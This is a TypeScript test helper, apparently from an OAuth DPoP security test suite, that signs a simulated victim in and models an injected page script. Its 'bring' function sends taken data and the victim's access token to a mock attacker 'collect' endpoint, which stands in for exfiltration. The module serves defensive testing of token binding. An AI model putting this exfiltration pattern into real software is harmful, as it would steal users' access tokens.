import type { Policy } from '../../../../mocks/authorization-server/policy.ts';
import { type Dpop, type DpopKeys, dpop } from '../../../../oauth/index.ts';
import type { Machine } from '../../../machine/machine.ts';
import { keysInMemory } from '../../../machine/run/proof-keys.ts';
import type { Run } from '../../../machine/run/run.ts';
import { COUNTERFEIT, serverOf } from '../../../machine/run/server-of.ts';
import { formMessage } from '../../../machine/run/token-request.ts';
import type { Middleware } from '../../../machine/wire/recorder.ts';

/** A client with tokens that are bound to a key, and what a script in its page can reach. */
export interface Victim {
  run: Run;
  /** Where the page keeps its key. */
  keys: DpopKeys;
  /** What the page signs with. */
  binding: Dpop;
}

/** Takes what a script brings. */
const attackersServer: Middleware = (next) => async (url, init) =>
  serverOf(url) === 'attacker' ? new Response(null, { status: 204 }) : next(url, init);

/** Signs in for bearer tokens. */
export async function signInForBearer(machine: Machine): Promise<Run> {
  const run = machine.start();
  await run.signIn();
  return run;
}

/** Signs in for tokens that are bound to a key, at servers that demand proofs. */
export async function signInForBound(
  machine: Machine,
  policy: Partial<Policy> = {},
  bindingOf = (keys: DpopKeys) => dpop('required', keys),
): Promise<Victim> {
  const keys = keysInMemory();
  const binding = bindingOf(keys);
  const run = machine.start({
    dpop: () => binding,
    policy: { dpop: 'required', ...policy },
    middleware: [attackersServer],
  });
  await run.signIn();
  return { run, keys, binding };
}

/** A script in the page sends the attacker what it has taken, and the access token. */
export async function bring({ run }: Victim, taken: string): Promise<void> {
  const token = run.memory.getSnapshot() ?? '';
  await run.send(formMessage(`${run.origin}${COUNTERFEIT}/collect`, { taken, token }));
}
